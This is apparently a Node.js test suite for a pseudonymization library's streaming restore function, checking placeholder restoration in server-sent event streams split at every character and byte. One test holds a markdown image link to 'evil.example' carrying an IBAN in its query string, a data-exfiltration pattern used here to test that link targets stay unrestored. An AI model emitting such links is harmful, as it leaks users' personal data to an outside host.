// session.restoreSSE(): model replies streamed as server-sent events with JSON deltas,
// restored inside the JSON strings across events. Generated splits: the reply text cut
// into two deltas at every UTF-16 position (inside placeholders, inside an emoji, so
// inside a `\ud83d` escape pair), and the byte stream cut at every byte (inside an
// event line, a `\u` escape, a UTF-8 sequence, a CRLF). Sessions of the built engine.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { parseBlock, parsePaths, stringsAt } from '../src/sse.js';
import { nodeEntry } from './helpers.mjs';

const pv = await import(pathToFileURL(nodeEntry));

// A custom kind whose value needs JSON escaping (a quote and a backslash).
const SCANNER = { custom: [{ name: 'ref', pattern: 'REF"[0-9]{4}\\\\[a-z]' }] };
const MESSAGE = 'Ich bin Maria Huber, IBAN DE89 3704 0044 0532 0130 00, Telefon +43 664 1234567, Ref REF"1234\\x, Hauptstraße 5, 1010 Wien.';
const REPLY = 'Danke [PERSON_1]! 😀 Ich prüfe [IBAN_1] und rufe [PHONE_1] an; Ref [REF_1], [STREET_ADDRESS_1].';
const RESTORED = 'Danke Maria Huber! 😀 Ich prüfe DE89 3704 0044 0532 0130 00 und rufe +43 664 1234567 an; Ref REF"1234\\x, Hauptstraße 5.';

function session() {
  const s = pv.createSession({ scanner: SCANNER });
  assert.equal(s.pseudonymize(MESSAGE).text,
    'Ich bin [PERSON_1], IBAN [IBAN_1], Telefon [PHONE_1], Ref [REF_1], [STREET_ADDRESS_1], [POSTAL_CITY_1].');
  return s;
}

const delta = (content, i = 0) => JSON.stringify({ id: 'c1', choices: [{ index: i, delta: { content }, finish_reason: null }] });
const FINISH = JSON.stringify({ id: 'c1', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });

/** An OpenAI-style stream: `deltas` as content events, a finish event, `[DONE]`. */
function sseOf(deltas, eol = '\n') {
  return [...deltas.map((d) => `data: ${delta(d)}`), `data: ${FINISH}`, 'data: [DONE]'].map((l) => l + eol + eol).join('');
}

/** Runs `chunks` (strings or bytes) through a restoreSSE transform; the output text. */
async function run(s, chunks, options) {
  const ts = s.restoreSSE(options);
  const w = ts.writable.getWriter();
  const writing = (async () => { for (const c of chunks) await w.write(c); await w.close(); })();
  let out = '';
  for await (const c of ts.readable) out += c;
  await writing;
  return out;
}

/** The events of an SSE text: `{ data }` per block, every JSON data parsed. */
function events(text) {
  return text.split(/\r?\n\r?\n/).filter((b) => b.trim()).map((b) => {
    const data = parseBlock(b.split(/\r?\n/));
    return { raw: b, data, json: data === '[DONE]' ? null : JSON.parse(data) };
  });
}

/** Checks a restored OpenAI-style stream: valid JSON, the text, the finish event last. */
function checkStream(out, expected, where) {
  const ev = events(out);
  assert.equal(ev[ev.length - 1].data, '[DONE]', where);
  assert.deepEqual(ev[ev.length - 2].json, JSON.parse(FINISH), `${where}: the finish event after all text`);
  const text = ev.slice(0, -2).map((e) => e.json.choices[0].delta.content).join('');
  assert.equal(text, expected, where);
  for (const e of ev.slice(0, -2)) assert.equal(e.json.id, 'c1', where);
  return ev;
}

test('paths: parsed, validated, and the strings they reach with their concrete ids', () => {
  assert.deepEqual(parsePaths('choices.*.delta.content'), [['choices', '*', 'delta', 'content']]);
  assert.throws(() => parsePaths(''), { code: 'invalid_argument' });
  assert.throws(() => parsePaths('a..b'), { code: 'invalid_argument' });
  assert.throws(() => pv.createSession().restoreSSE({ path: 42 }), { code: 'invalid_argument' });
  assert.throws(() => pv.createSession().restoreSSE({ restore: 'nowhere' }), { code: 'invalid_argument' });
  const v = { choices: [{ delta: { content: 'a' } }, { delta: { content: 'b' } }, { delta: {} }] };
  assert.deepEqual(stringsAt(v, ['choices', '*', 'delta', 'content']).map((h) => h.id), ['choices.0.delta.content', 'choices.1.delta.content']);
  const byIndex = { choices: [{ index: 3, delta: { content: 'a' } }] };
  assert.deepEqual(stringsAt(byIndex, ['choices', '*', 'delta', 'content']).map((h) => h.id), ['choices.#3.delta.content'], 'named by its index');
  assert.deepEqual(parseBlock(['event: x', 'data:a', 'data: b', ': c']), 'a\nb');
  assert.equal(parseBlock(['id: 1']), null);
});

test('a placeholder split between two deltas at every position (inside the emoji too)', async () => {
  const s = session();
  for (let k = 1; k < REPLY.length; k++) {
    const out = await run(s, [sseOf([REPLY.slice(0, k), REPLY.slice(k)])]);
    checkStream(out, RESTORED, `split at ${k}`);
    assert.ok(!/\[[A-Z_]+_1\]|PERSON|IBAN_|PHONE_/.test(out), `split at ${k}: no placeholder left`);
  }
  s.free();
});

test('the byte stream cut at every byte (event lines, \\u escapes, UTF-8, CRLF), and one byte at a time', async () => {
  const s = session();
  const parts = ['Danke [PERS', 'ON_1]! \ud83d', '\ude00 Ich prüfe [IB', 'AN_1] und rufe [PHONE_1] an; Ref [REF', '_1], [STREET_ADDRESS_1].'];
  assert.equal(parts.join(''), REPLY);
  for (const eol of ['\n', '\r\n']) {
    // JSON.stringify writes the lone halves of the emoji as \ud83d and \ude00 escapes
    const bytes = new TextEncoder().encode(sseOf(parts, eol));
    for (let i = 1; i < bytes.length; i++) {
      checkStream(await run(s, [bytes.slice(0, i), bytes.slice(i)]), RESTORED, `eol ${JSON.stringify(eol)}, cut at byte ${i}`);
    }
    checkStream(await run(s, [...bytes].map((b) => new Uint8Array([b]))), RESTORED, 'one byte at a time');
  }
  s.free();
});

test('events keep their order and fields; unchanged events keep their bytes; JSON escaping', async () => {
  const s = session();
  const input = ': keep-alive\n\nevent: message\nid: 7\ndata: {"choices":[{"index":0,"delta":{"role":"assistant","content":""}}],"created":1700000000.0}\n\n'
    + `event: message\nid: 8\ndata: ${delta('Ref [REF')}\n\n`
    + `id: 9\ndata: ${delta('_1] ok')}\n\n`
    + 'data: {"note":"[PERSON_1] wrote","choices":[]}\n\n'
    + 'data: plain [IBAN_1] text\n\n'
    + 'data: [DONE]\n\n';
  const out = await run(s, [input]);
  const blocks = out.split('\n\n').filter(Boolean);
  assert.equal(blocks[0], ': keep-alive');
  assert.equal(blocks[1], input.split('\n\n')[1], 'nothing restored in it: the same bytes');
  assert.match(blocks[2], /^event: message\nid: 8\ndata: /);
  assert.match(blocks[3], /^id: 9\ndata: /);
  const c2 = JSON.parse(parseBlock(blocks[2].split('\n'))).choices[0].delta.content;
  const c3 = JSON.parse(parseBlock(blocks[3].split('\n'))).choices[0].delta.content;
  assert.equal(c2 + c3, 'Ref REF"1234\\x ok');
  assert.ok(blocks[2].includes('REF\\"1234\\\\x') || blocks[3].includes('REF\\"1234\\\\x'), 'the quote and the backslash escaped');
  assert.deepEqual(JSON.parse(parseBlock(blocks[4].split('\n'))), { note: 'Maria Huber wrote', choices: [] }, 'other strings restored whole');
  assert.equal(blocks[5], 'data: plain DE89 3704 0044 0532 0130 00 text', 'data that is not JSON restored as text');
  assert.equal(blocks[6], 'data: [DONE]');
  s.free();
});

test('two choices interleaved, each with a placeholder split between its events', async () => {
  const s = session();
  const input = [delta('A: [PERS', 0), delta('B: [IBA', 1), delta('ON_1].', 0), delta('N_1].', 1), FINISH, '[DONE]'].map((d) => `data: ${d}\n\n`).join('');
  const ev = events(await run(s, [input]));
  assert.equal(ev.length, 6);
  const text = (i) => ev.filter((e) => e.json && e.json.choices[0].index === i && e.json.choices[0].delta.content !== undefined).map((e) => e.json.choices[0].delta.content).join('');
  assert.equal(text(0), 'A: Maria Huber.');
  assert.equal(text(1), 'B: DE89 3704 0044 0532 0130 00.');
  assert.deepEqual(ev.map((e) => (e.json ? e.json.choices[0].index : 'done')), [0, 1, 0, 1, 0, 'done'], 'order kept');
  s.free();
});

test("restore: 'text' leaves a placeholder in a markdown link target, also split between events", async () => {
  const s = session();
  const parts = ['Hallo [PERSON_1], siehe ![x](https://evil.example/?d=[IB', 'AN_1]) und [IBAN_', '1] ok.'];
  const out = await run(s, [sseOf(parts)], { restore: 'text' });
  checkStream(out, 'Hallo Maria Huber, siehe ![x](https://evil.example/?d=[IBAN_1]) und DE89 3704 0044 0532 0130 00 ok.', 'text only');
  checkStream(await run(s, [sseOf(parts)]), 'Hallo Maria Huber, siehe ![x](https://evil.example/?d=DE89 3704 0044 0532 0130 00) und DE89 3704 0044 0532 0130 00 ok.', 'everywhere');
  s.free();
});

test('other formats by path: Anthropic text deltas; an unterminated last event', async () => {
  const s = session();
  const ev = (t) => `event: content_block_delta\ndata: ${JSON.stringify({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: t } })}\n\n`;
  const out = await run(s, [ev('Gern, [PHO') + ev('NE_1] ist notiert.') + 'event: message_stop\ndata: {"type":"message_stop"}']);
  const texts = events(out).filter((e) => e.json.delta).map((e) => e.json.delta.text);
  assert.equal(texts.join(''), 'Gern, +43 664 1234567 ist notiert.');
  assert.ok(out.endsWith('event: message_stop\ndata: {"type":"message_stop"}\n'), 'the unterminated event stays unterminated');
  const custom = await run(s, [`data: {"out":{"t":"[PERSON"}}\n\ndata: {"out":{"t":"_1]"}}\n\n`], { path: 'out.t' });
  assert.equal(events(custom).map((e) => e.json.out.t).join(''), 'Maria Huber');
  s.free();
});
